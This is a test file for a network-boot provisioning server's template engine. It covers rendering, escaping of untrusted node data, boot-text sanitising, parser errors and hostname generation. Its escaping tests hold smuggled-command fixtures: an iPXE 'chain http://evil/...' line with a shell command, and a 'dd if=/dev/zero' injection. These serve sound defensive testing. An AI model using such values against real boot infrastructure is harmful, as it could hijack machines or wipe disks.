import { describe, it, expect } from 'vitest';
import { render as renderWith, parseTemplate, TemplateError, Untrusted } from '../../server/tasks/template.ts';
import { renderHostname } from '../../server/policies/policy-service.ts';
import { bootValue, ipxeText } from '../../server/boot/boot-text.ts';

const render = (src: string, ctx: Record<string, unknown>) => renderWith(src, ctx, { escape: bootValue });

describe('templates', () => {
  it('renders values, conditionals and loops', () => {
    const ctx = { a: { b: 'x' }, list: ['k1', 'k2'], yes: true, no: '', n: 0 };
    expect(render('{{a.b}}-{{ missing }}-{{n}}', ctx)).toBe('x--0');
    expect(render('{{#if yes}}Y{{else}}N{{/if}}{{#if no}}Y{{else}}N{{/if}}', ctx)).toBe('YN');
    expect(render('{{#each list}}[{{this}}|{{a.b}}]{{/each}}', ctx)).toBe('[k1|x][k2|x]');
    expect(render('${id} stays for iPXE: ${net0/mac}', {})).toBe('${id} stays for iPXE: ${net0/mac}');
  });
  it('writes untrusted values only through the escaper, however they are reached', () => {
    const evil = 'x && chain http://evil/${net0/mac}\nshell';
    const ctx = {
      node: { serial: new Untrusted(evil), macs: new Untrusted(['52:54:00:aa:bb:cc', evil]), metadata: { op: 'a b' } },
      facts: new Untrusted({ f: evil, nested: { g: evil } }),
      trusted: 'kernel args=1',
    };
    const out = render(
      '{{node.serial}}|{{#each node.macs}}{{this}},{{/each}}|{{facts.f}}|{{facts.nested}}|{{facts}}|{{node}}|{{node.metadata.op}}|{{trusted}}',
      ctx,
    );
    for (const bad of ['&&', '${', '\n', ' chain', '"']) expect(out.split('|').slice(0, 6).join('|')).not.toContain(bad);
    expect(out).toContain('52:54:00:aa:bb:cc,');
    expect(out.endsWith('|a b|kernel args=1')).toBe(true);
    expect(render('{{#if node.serial}}yes{{/if}}', ctx)).toBe('yes');
  });
  it('cuts node text down to characters with no meaning in any boot language', () => {
    expect(bootValue('52:54:00:aa:bb:cc')).toBe('52:54:00:aa:bb:cc');
    expect(bootValue('4c4c4544-0042-3510-8051-b7c04f4e3232')).toBe('4c4c4544-0042-3510-8051-b7c04f4e3232');
    expect(bootValue('web-01.rack.local')).toBe('web-01.rack.local');
    expect(bootValue("x';dd if=/dev/zero;'")).toBe('x__dd_if__dev_zero__');
    expect(bootValue('a'.repeat(1000))).toHaveLength(256);
    expect(ipxeText('Dell Inc. (R640) ${x} || reboot & #')).toBe('Dell Inc. (R640) ??x? ?? reboot ? ?');
  });
  it('reports errors with line numbers', () => {
    expect(() => parseTemplate('a\n{{#if x}}')).toThrow(TemplateError);
    expect(() => parseTemplate('a\n{{#if x}}')).toThrow(/line 2: \{\{#if\}\} is never closed/);
    expect(() => parseTemplate('{{/each}}')).toThrow(/unexpected/);
    expect(() => parseTemplate('x {{ oops')).toThrow(/unterminated/);
    expect(() => parseTemplate('{{else}}')).toThrow(/outside/);
  });
  it('renders hostnames from templates', () => {
    expect(renderHostname('node${id}', { id: 7, serial: null, boot_mac: null })).toBe('node7');
    expect(renderHostname('r1-${serial}', { id: 7, serial: 'CZ 12/3', boot_mac: null })).toBe('r1-cz-12-3');
    expect(renderHostname('m${mac}', { id: 7, serial: null, boot_mac: '52:54:00:aa:bb:cc' })).toBe('m525400aabbcc');
  });
});
